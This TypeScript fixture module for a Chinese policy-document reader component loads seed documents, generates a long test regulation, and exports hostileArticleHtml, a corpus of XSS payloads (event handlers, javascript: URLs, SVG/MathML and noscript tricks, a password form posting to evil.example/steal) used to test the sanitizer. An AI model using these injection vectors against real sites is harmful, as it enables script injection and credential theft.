// Documents and markup for <zw-reader>: its tests, stories, demo and bench read them from here.
// The two seed documents live once, as the demo's JSON (demo/data/reader-*.json), copied from
// the seed texts with their damage kept (`?/td>`, `宸/p>`, `?021?7号`): the reader must read them well.
import guangzhou from '../../demo/data/reader-003-guangzhou-2021.json' with { type: 'json' };
import shandong from '../../demo/data/reader-000-shandong-2019.json' with { type: 'json' };
import type { Block, PolicyDocument } from '../schema/types.generated.js';
import { findScrapeDamage, repairScrapedText } from '../core/reader/repair.js';

/**
 * Seed 003, 广州市商务局2021年政务公开工作要点分工实施方案: the notice, the 一、二、三 headings,
 * paragraphs and the 31-row task table (工作任务, 具体要求, 责任处室, 具体工作, 完成时限) as one table
 * block. Cells merged in the source (rowspan) are empty in the rows below; each of the five
 * groups (一、紧扣…) opens the 工作任务 cell of its first row.
 */
export const seed003Policy = guangzhou as unknown as PolicyDocument;

/** Seed 000, 山东省商务厅2019年政务公开工作实施方案: the notice, headings 一、 and (一), paragraphs, a list and a note. */
export const seed000Policy = shandong as unknown as PolicyDocument;

/** A fresh copy of a seed document, to change in one test without touching the others. */
export const readerDocument = (name: 'seed003' | 'seed000', changes: Partial<PolicyDocument> = {}): PolicyDocument => ({
  ...(JSON.parse(JSON.stringify(name === 'seed003' ? seed003Policy : seed000Policy)) as PolicyDocument),
  ...changes,
});

/** Number of body rows of seed 003's task table. */
export const SEED_003_TASK_ROWS = 31;

/** Characters of body text (every block's visible text, cells included). */
export function bodyTextLength(blocks: readonly Block[] = []): number {
  let length = 0;
  for (const block of blocks) {
    if (block.type === 'list') length += block.items.reduce((n, item) => n + item.length, 0);
    else if (block.type === 'table') length += [block.caption ?? '', ...(block.head ?? []), ...block.rows.flat()].reduce((n, cell) => n + cell.length, 0);
    else if (block.type === 'note') length += (block.title ?? '').length + block.text.length;
    else length += block.text.length;
  }
  return length;
}

const DIGITS = '零一二三四五六七八九';

/** 1 → 一, 10 → 十, 21 → 二十一, 105 → 一百零五, 1234 → 一千二百三十四 (up to 9999: enough for any regulation). */
export function chineseNumber(n: number): string {
  if (n < 10) return DIGITS[n]!;
  if (n < 20) return `十${n % 10 ? DIGITS[n % 10] : ''}`;
  const units = ['千', '百', '十', ''];
  const digits = String(n).padStart(4, '0').split('').map(Number);
  let out = '';
  let zero = false;
  digits.forEach((d, i) => {
    if (d === 0) {
      zero = out !== '';
      return;
    }
    if (zero) out += '零';
    zero = false;
    out += DIGITS[d]! + units[i]!;
  });
  return out;
}

/**
 * The real sentences of the seed texts (paragraphs, list items, table cells), each ending in 。 — what a long regulation
 * is built of. Clean text only: seed 003's encoding damage is repaired or the sentence left out (the long text stands
 * for a well-made document; the damage has its own fixture, seed003Policy).
 */
function seedSentences(): string[] {
  const texts: string[] = [];
  for (const doc of [seed000Policy, seed003Policy]) {
    for (const block of doc.body ?? []) {
      if (block.type === 'paragraph') texts.push(block.text);
      else if (block.type === 'list') texts.push(...block.items);
      else if (block.type === 'table') texts.push(...block.rows.map((row) => row[3] ?? ''));
    }
  }
  return texts
    .flatMap((text) => text.split('。'))
    .map((s) =>
      repairScrapedText(s)
        .replace(/^[(（][^)）]*[)）]/, '')
        .trim(),
    )
    .filter((s) => s.length >= 12 && findScrapeDamage(s).length === 0)
    .map((s) => `${s}。`);
}

const CHAPTERS = ['总则', '信息公开的主体和范围', '主动公开', '依申请公开', '政策解读与回应关切', '平台建设', '监督和保障', '法律责任', '附则'];

/**
 * A deterministic generated regulation of about `chars` characters of body text (within one
 * article's length above it): 第一章 … with 第一条 … articles cycling real sentences from the
 * seeds, every fifth article with a list of items (（一）…). The same `chars` always gives the
 * same document.
 */
export function longRegulation(chars = 200_000): PolicyDocument {
  const sentences = seedSentences();
  const body: Block[] = [];
  let length = 0;
  let next = 0; // the next sentence
  let article = 0;
  let chapter = 0;
  const take = (): string => sentences[next++ % sentences.length]!;
  while (length < chars) {
    if (article % 20 === 0) {
      const heading: Block = { type: 'heading', text: `第${chineseNumber(++chapter)}章\u3000${CHAPTERS[(chapter - 1) % CHAPTERS.length]}` };
      body.push(heading);
      length += heading.text.length;
    }
    article++;
    const block: Block =
      article % 5 === 0
        ? { type: 'list', ordered: false, items: [1, 2, 3].map((i) => `（${chineseNumber(i)}）${take()}`) }
        : { type: 'paragraph', text: `第${chineseNumber(article)}条\u3000${take()}${article % 2 ? take() : ''}` };
    if (block.type === 'list') {
      const lead: Block = { type: 'paragraph', text: `第${chineseNumber(article)}条\u3000有下列情形之一的，依照本规定办理：` };
      body.push(lead);
      length += lead.text.length;
    }
    body.push(block);
    length += bodyTextLength([block]);
  }
  return {
    type: 'policy',
    schemaVersion: 1,
    id: `long-regulation-${chars}`,
    title: '示例市政务公开规定（长文本）',
    docNo: '示例市人民政府令第1号',
    issuer: { name: '示例市人民政府' },
    writtenDate: '2021-06-30',
    publishDate: '2021-07-01',
    effectiveDate: '2021-09-01',
    validity: 'effective',
    summary: `由种子文本中的真实句子循环生成的长篇规章，约 ${Math.round(length / 1000)} 千字，用于检验长文本的渲染与朗读。`,
    body,
  };
}

/**
 * Article HTML as a portal might leave it inside <zw-reader> for progressive enhancement,
 * with hostile markup around readable seed text: scripts, handlers, `javascript:` links,
 * SVG/MathML tricks, forms, styles, a clashing id. Every attack sets `window.__zwPwned`.
 * (The sanitizer's own tests keep a larger corpus; this one is for the stories and the demo.)
 */
export const hostileArticleHtml = `<article id="content">
  <h2 id="toolbar" onclick="window.__zwPwned=1">省商务厅2019年政务公开工作实施方案</h2>
  <script>window.__zwPwned = 1</script>
  <p style="position:fixed;inset:0;background:red">2019年我厅政务公开工作，坚持以习近平新时代中国特色社会主义思想为指导，认真落实新修订的《中华人民共和国政府信息公开条例》，推动全省商务工作实现高质量发展。</p>
  <h3>一、深化重点领域信息公开</h3>
  <p onmouseover="window.__zwPwned=1">（一）推进市场消费信息公开。聚焦引导消费升级，加强我省消费市场运行信息公开。<img src="x" onerror="window.__zwPwned=1" alt=""></p>
  <p>（二）推进“放管服”改革信息公开。详见<a href="javascript:window.__zwPwned=1">权责清单</a>和<a href="JaVaScRiPt&colon;window.__zwPwned=1">监管信息</a>，或访问<a href="https://www.shandong.gov.cn/">山东政务服务网</a>。</p>
  <svg><script>window.__zwPwned=1</script><foreignObject><p onfocus="window.__zwPwned=1" tabindex="0">SVG 中的文字</p></foreignObject><a xlink:href="javascript:window.__zwPwned=1"><text>点我</text></a></svg>
  <math><mtext><table><mglyph><style><img src=x onerror="window.__zwPwned=1"></style></mglyph></table></mtext></math>
  <h3>二、强化解读回应广大公众参与</h3>
  <ul>
    <li>按照“谁起草、谁解读”的原则，做好政策解读工作。</li>
    <li>主办处室应将相关解读材料于文件公布后3个工作日内在网站政策解读专栏发布。<iframe src="javascript:window.__zwPwned=1"></iframe></li>
  </ul>
  <table>
    <caption>分工</caption>
    <thead><tr><th>任务</th><th>责任处室</th><th>完成时限</th></tr></thead>
    <tbody>
      <tr><td>加强政策解读</td><td>相关处室</td><td>2019年底</td></tr>
      <tr><td onclick="window.__zwPwned=1">积极回应社会关切</td><td>办公室</td><td>2019年底</td></tr>
    </tbody>
  </table>
  <form action="https://evil.example/steal"><input name="pw" type="password" autofocus onfocus="window.__zwPwned=1"><button formaction="javascript:window.__zwPwned=1">提交</button></form>
  <style>body { display: none }</style>
  <p><ruby>解读<rt>jiě dú</rt></ruby>文件地址：<a href="/tj/2019-fangan.html" target="_blank" onclick="window.__zwPwned=1">【一图读懂】解读《省商务厅2019年政务公开实施方案》</a></p>
  <object data="javascript:window.__zwPwned=1"></object><embed src="javascript:window.__zwPwned=1">
  <noscript><p title="</noscript><img src=x onerror=window.__zwPwned=1>">noscript</p></noscript>
</article>`;
